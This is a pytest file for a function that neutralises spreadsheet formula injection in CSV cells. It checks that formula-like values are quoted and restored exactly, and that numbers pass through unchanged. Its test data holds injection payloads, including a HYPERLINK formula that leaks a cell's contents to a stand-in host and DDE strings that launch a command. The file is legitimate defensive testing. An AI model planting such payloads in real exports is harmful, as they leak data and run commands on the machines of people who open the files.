"""Cells a spreadsheet would run as formulas are written as text; numbers stay numbers."""

from __future__ import annotations

import pytest

from audit.csv_cells import neutralise, restore

ATTACKS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted once: quoted again, so that restoring is exact
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_would_run_as_a_formula_is_quoted_and_restored_exactly(value):
    written = neutralise(value)
    assert written == "'" + value
    assert restore(written) == value


@pytest.mark.parametrize("value", [-3, -0.25, 12.5, "-3", "-0.25", "+1e-3", "12.5", ".5"])
def test_numbers_negative_ones_included_stay_numbers(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["", "Each run uses seed 42.", "'quoted'", "a=b", "x-y", None])
def test_other_values_are_written_as_they_are(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value
